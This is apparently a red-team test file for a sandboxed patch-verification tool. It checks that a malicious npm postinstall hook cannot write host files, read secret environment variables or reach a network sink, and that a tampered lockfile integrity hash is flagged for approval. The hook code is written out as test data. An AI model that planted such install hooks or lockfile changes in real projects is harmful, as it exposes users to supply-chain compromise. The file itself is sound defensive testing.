/**
 * REDTEAM G32, G33: supply chain.
 *
 * Method: G32 — a repo depends on a local package whose `postinstall` script (approved in the
 * repo's package.json, so npm really runs it) tries to reach a TCP sink the test listens on, read
 * a canary variable planted in the kernel's environment, and write a marker file on the host; the
 * user's verify command is `npm ci` run by the real `crustcore run` in the real sandbox. The
 * script runs, and reaches nothing. G33 — a patch that changes the `integrity` of an existing
 * dependency in package-lock.json passes verify but is held for approval as a lockfile change.
 */
import { createServer, type Server } from 'node:net';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import {
  Exit,
  expectLogged,
  makePatch,
  makeRepo,
  makeWorld,
  requireBwrap,
  run,
  token,
  useBuiltCli,
  useWorlds,
} from './support.js';

useBuiltCli();
requireBwrap();
useWorlds();

let sink: Server | undefined;
afterEach(async () => {
  await new Promise<void>((resolve) => (sink === undefined ? resolve() : sink.close(() => resolve())));
  sink = undefined;
});

/** A TCP listener on all interfaces that counts connections. */
async function startSink(): Promise<{ port: number; connections: () => number }> {
  let count = 0;
  const server = createServer((socket) => {
    count++;
    socket.destroy();
  });
  sink = server;
  await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('sink has no port');
  return { port: address.port, connections: () => count };
}

describe('G32 a dependency install script during verify', () => {
  it('runs without network, secrets or a way to write outside the tree', async () => {
    const canary = `canary-${token()}`;
    const world = makeWorld({ SUPPLY_CANARY: canary });
    const { port, connections } = await startSink();
    const marker = join(world.markers, 'postinstall-was-here');
    const hook = [
      "const net = require('node:net');",
      "const fs = require('node:fs');",
      `try { fs.writeFileSync(${JSON.stringify(marker)}, 'x'); console.log('marker written'); } catch { console.log('marker refused'); }`,
      "console.log('env canary: ' + (process.env.SUPPLY_CANARY ?? 'absent'));",
      `const socket = net.connect(${port}, '127.0.0.1');`,
      "socket.on('connect', () => { console.log('sink reached'); socket.destroy(); });",
      "socket.on('error', (error) => console.log('sink unreachable: ' + error.code));",
      "console.log('hook-ran');",
    ].join('\n');
    const repo = makeRepo(world, {
      'package.json': `${JSON.stringify({ name: 'app', version: '1.0.0', private: true, dependencies: { evil: 'file:deps/evil' }, allowScripts: { 'file:../deps/evil': true } })}\n`,
      'package-lock.json': `${JSON.stringify({
        name: 'app',
        version: '1.0.0',
        lockfileVersion: 3,
        requires: true,
        packages: {
          '': { name: 'app', version: '1.0.0', dependencies: { evil: 'file:deps/evil' } },
          'deps/evil': { version: '1.0.0', hasInstallScript: true },
          'node_modules/evil': { resolved: 'deps/evil', link: true },
        },
      })}\n`,
      '.gitignore': 'node_modules/\n',
      'deps/evil/package.json': `${JSON.stringify({ name: 'evil', version: '1.0.0', scripts: { postinstall: 'node hook.js' } })}\n`,
      'deps/evil/hook.js': `${hook}\n`,
      'notes.txt': 'draft\n',
    });
    const patch = makePatch(world, repo, { 'notes.txt': 'fixed\n' });
    const outcome = await run(world, repo, [
      '--patch',
      patch,
      '--verify',
      'npm ci --offline --no-audit --no-fund --foreground-scripts 2>&1',
      '--timeout',
      '60',
    ]);
    const output = outcome.report.attempts[0]?.verify?.outputTail ?? '';
    expect({ code: outcome.code, verdict: outcome.report.verdict }).toEqual({
      code: Exit.verified,
      verdict: 'verified',
    });
    expect(output).toContain('hook-ran');
    expect(output).toContain('marker refused');
    expect(output).toContain('env canary: absent');
    expect(output).toMatch(/sink unreachable: E[A-Z]+/u);
    expect(output).not.toContain('sink reached');
    expect(output).not.toContain(canary);
    expect(connections()).toBe(0);
    expect(existsSync(marker)).toBe(false);
    await expectLogged(world, outcome.report, 'verified');
  });
});

describe('G33 a lockfile integrity change', () => {
  it('needs approval as a lockfile change even though verify passes', async () => {
    const world = makeWorld();
    const lock = (integrity: string): string =>
      `${JSON.stringify(
        {
          name: 'app',
          lockfileVersion: 3,
          packages: {
            '': { name: 'app', dependencies: { 'left-pad': '1.3.0' } },
            'node_modules/left-pad': {
              version: '1.3.0',
              resolved: 'https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz',
              integrity,
            },
          },
        },
        null,
        2,
      )}\n`;
    const repo = makeRepo(world, {
      'package.json': `${JSON.stringify({ name: 'app', dependencies: { 'left-pad': '1.3.0' } })}\n`,
      'package-lock.json': lock('sha512-original'),
    });
    const patch = makePatch(world, repo, { 'package-lock.json': lock('sha512-attacker') });
    const outcome = await run(world, repo, ['--patch', patch, '--verify', 'true']);
    expect({
      code: outcome.code,
      verdict: outcome.report.verdict,
      protectedPaths: outcome.report.protectedPaths,
    }).toEqual({
      code: Exit.needsApproval,
      verdict: 'needs-approval',
      protectedPaths: [{ path: 'package-lock.json', rule: 'lockfile' }],
    });
    expect(outcome.report.manifestChanges).toEqual(['package-lock.json']);
    await expectLogged(world, outcome.report, 'awaiting-approval');
  });
});
